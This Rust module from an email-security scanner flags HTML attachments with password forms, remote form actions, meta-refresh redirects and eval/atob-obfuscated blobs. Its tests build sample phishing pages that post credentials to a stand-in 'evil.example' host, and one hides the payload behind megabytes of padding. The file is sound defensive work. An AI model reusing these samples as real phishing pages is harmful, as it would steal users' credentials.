//! HTML attachments: the page opens in the browser from the local disk, beyond URL filters. Smuggling
//! (a page that assembles a file) is a name-and-content check in [`crate::names`]; this adds what the
//! page does: credential forms and where they post, redirects, and script obfuscation.

use crate::{Node, Walk};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
use spearwatch_core::{technique as t, Severity};
use std::sync::OnceLock;

/// Bytes of a page handed to the HTML scanner at once. The page is read whole, window after window,
/// so that padding cannot push a form or a redirect out of view, while what the scanner collects
/// from one window (forms, links, resources) stays bounded.
const WINDOW: usize = 1 << 20;
/// How far back from a window's end a tag start (`<`) is looked for, so that no tag is cut in two.
const TAG_SLACK: usize = 64 << 10;
/// Form actions kept for the evidence.
const MAX_FORMS: usize = 32;

/// Calls that run decoded text.
const EVALS: &[&str] = &[
    "eval(",
    "document.write(unescape",
    "document.write(atob",
    "unescape(",
    "atob(",
];

fn evals_matcher() -> &'static AhoCorasick {
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    M.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(EVALS)
            .expect("static patterns build")
    })
}

/// The windows `data` is scanned in: at most [`WINDOW`] bytes each, cut before a `<`.
fn windows(data: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut at = 0;
    std::iter::from_fn(move || {
        let rest = data.get(at..).filter(|r| !r.is_empty())?;
        let mut len = rest.len().min(WINDOW);
        if len < rest.len() {
            let lo = len.saturating_sub(TAG_SLACK).max(1);
            if let Some(i) = rest.get(lo..len).and_then(|w| memchr::memrchr(b'<', w)) {
                len = lo + i;
            }
        }
        at += len;
        rest.get(..len)
    })
}

pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
    // Only a top-level attachment can exceed the walk's object limit (members are cut at it).
    let max = usize::try_from(w.limits().max_object_bytes).unwrap_or(usize::MAX);
    if data.len() > max {
        w.limit(
            node,
            "object size",
            format!(
                "page of {} bytes; only the first {max} were read",
                data.len()
            ),
        );
    }
    let data = data.get(..max).unwrap_or(data);
    node.format = Some("HTML page".into());

    let mut password_forms: Vec<String> = Vec::new();
    let mut remote: Vec<String> = Vec::new();
    let mut refresh: Option<String> = None;
    let keep = |list: &mut Vec<String>, v: &str| {
        if list.len() < MAX_FORMS && !list.iter().any(|x| x == v) {
            list.push(v.to_string());
        }
    };
    for window in windows(data) {
        if w.expired(node) {
            break;
        }
        let text = String::from_utf8_lossy(window);
        let page = spearwatch_message::html::scan(&text, text.len());
        if !page.text.is_empty() {
            node.push_text(&page.text);
        }
        for f in &page.forms {
            if f.has_password {
                keep(
                    &mut password_forms,
                    f.action
                        .as_deref()
                        .unwrap_or("(no action: submitted by script)"),
                );
            }
            if let Some(a) = f.action.as_deref().filter(|a| {
                a.starts_with("http://") || a.starts_with("https://") || a.starts_with("//")
            }) {
                keep(&mut remote, a);
            }
        }
        if refresh.is_none() {
            refresh = page.refresh.into_iter().next();
        }
    }
    if !password_forms.is_empty() {
        node.flag(
            "html.credential_form",
            Severity::High,
            "HTML attachment asks for a password",
            &[t::SPEARPHISHING_ATTACHMENT, t::PHISHING_FOR_INFORMATION],
            password_forms.join(", "),
            "a login form in a local file posts the password wherever its action points",
        );
    }
    if !remote.is_empty() {
        node.flag(
            "html.remote_form",
            Severity::Medium,
            "HTML attachment submits a form to a web server",
            &[t::PHISHING_FOR_INFORMATION],
            remote.join(", "),
            "a page opened from disk has no business posting to a remote site",
        );
    }
    if let Some(target) = refresh {
        node.flag(
            "html.meta_refresh",
            Severity::Medium,
            "HTML attachment redirects the browser to a web site",
            &[t::SPEARPHISHING_ATTACHMENT, t::MALICIOUS_LINK],
            target,
            "meta refresh in a local file: the attachment is a link in disguise",
        );
    }
    let mut seen = [false; EVALS.len()];
    for m in evals_matcher().find_overlapping_iter(data) {
        if let Some(s) = seen.get_mut(m.pattern().as_usize()) {
            *s = true;
        }
    }
    let evals: Vec<&str> = EVALS
        .iter()
        .zip(seen)
        .filter(|(_, hit)| *hit)
        .map(|(e, _)| *e)
        .collect();
    let longest = if evals.is_empty() {
        0
    } else {
        longest_encoded_run(data)
    };
    if !evals.is_empty() && longest >= 2048 {
        node.flag(
            "html.obfuscated_script",
            Severity::Medium,
            "HTML attachment decodes and runs a large encoded blob",
            &[t::OBFUSCATED_FILES, t::HTML_SMUGGLING],
            evals.join(", "),
            format!("longest base64/hex/percent-encoded run: {longest} characters"),
        );
    }
}

/// Longest run of characters that base64, hex or %-escapes are made of.
fn longest_encoded_run(data: &[u8]) -> usize {
    let mut best = 0;
    let mut run = 0;
    for &b in data {
        if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'%' | b'\\') {
            run += 1;
            best = best.max(run);
        } else {
            run = 0;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use crate::{analyse, Options};

    #[test]
    fn phishing_page_attachment() {
        let page = b"<html><body><p>Hometax login</p><form action=\"https://evil.example/p.php\" method=post><input name=u><input type=password name=p></form></body></html>";
        let n = analyse(page, "secure.html", None, &Options::default());
        assert!(n.has("html.credential_form"));
        assert!(n.has("html.remote_form"));
        assert!(n.text.contains("Hometax"));
        let plain = b"<html><body><p>Minutes of the meeting</p></body></html>";
        let n = analyse(plain, "minutes.html", None, &Options::default());
        assert!(n.findings.is_empty(), "{:?}", n.findings);
    }

    #[test]
    fn encoded_blob_with_eval() {
        let blob = "QUFB".repeat(1000);
        let page = format!("<html><script>eval(atob('{blob}'))</script></html>");
        let n = analyse(page.as_bytes(), "x.htm", None, &Options::default());
        assert!(n.has("html.obfuscated_script"));
    }

    #[test]
    fn form_and_redirect_after_padding() {
        // 5 MB of paragraphs push the form past the old 4 MB window; the last window boundary falls
        // inside the padding, which must not cut a tag in two.
        let mut page = String::from("<html><body>");
        page.push_str(&"<p>Lorem ipsum dolor sit amet</p>\n".repeat(5 << 20 >> 5));
        page.push_str("<meta http-equiv=refresh content=\"5; url=https://evil.example/r\">");
        page.push_str("<form action=\"https://evil.example/p.php\"><input name=u>");
        page.push_str("<input type=password name=p></form>");
        page.push_str("<script>eval(atob('");
        page.push_str(&"QUFB".repeat(1000));
        page.push_str("'))</script></body></html>");
        assert!(page.len() > 5 << 20);
        let t = std::time::Instant::now();
        let n = analyse(page.as_bytes(), "secure.html", None, &Options::default());
        assert!(t.elapsed().as_secs_f64() < 5.0, "{:?}", t.elapsed());
        for id in [
            "html.credential_form",
            "html.remote_form",
            "html.meta_refresh",
            "html.obfuscated_script",
        ] {
            assert!(n.has(id), "{id}: {:?}", n.findings);
        }
        assert!(n.text.starts_with("Lorem ipsum"));
    }

    #[test]
    fn windows_cover_the_page_and_cut_before_tags() {
        let page = "<p>x</p>".repeat(3 * super::WINDOW / 8 + 3);
        let parts: Vec<&[u8]> = super::windows(page.as_bytes()).collect();
        assert_eq!(parts.iter().map(|p| p.len()).sum::<usize>(), page.len());
        assert!(parts.len() >= 3);
        for p in &parts {
            assert!(p.len() <= super::WINDOW);
            assert!(p.starts_with(b"<"), "{:?}", &p[..8]);
        }
        // No `<` near the end of a window: cut at the window size.
        let blob = "A".repeat(super::WINDOW + 10);
        let parts: Vec<&[u8]> = super::windows(blob.as_bytes()).collect();
        assert_eq!(parts.len(), 2);
        assert_eq!(parts[0].len(), super::WINDOW);
    }
}
